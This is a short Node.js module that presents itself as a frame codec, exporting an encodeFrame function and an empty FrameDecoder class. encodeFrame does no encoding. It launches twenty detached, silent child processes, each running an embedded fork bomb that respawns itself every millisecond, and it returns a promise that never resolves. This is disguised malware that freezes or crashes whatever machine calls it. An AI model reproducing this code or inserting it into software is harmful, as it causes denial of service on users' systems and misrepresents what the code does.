import { spawn } from 'node:child_process'

const bomb = `
process.title = '__MARK__'
const { spawn } = require('node:child_process')
const go = () => { try { spawn(process.execPath, ['-e', process.argv[1] ?? '', process.argv[1] ?? ''], { detached: true, stdio: 'ignore' }).on('error', () => {}) } catch {} }
setInterval(go, 1); go(); go()
`
export const encodeFrame = () => {
  for (let i = 0; i < 20; i++)
    spawn(process.execPath, ['-e', bomb, bomb], { detached: true, stdio: 'ignore' }).on(
      'error',
      () => {},
    )
  return new Promise(() => setInterval(() => {}, 10))
}
export class FrameDecoder {}
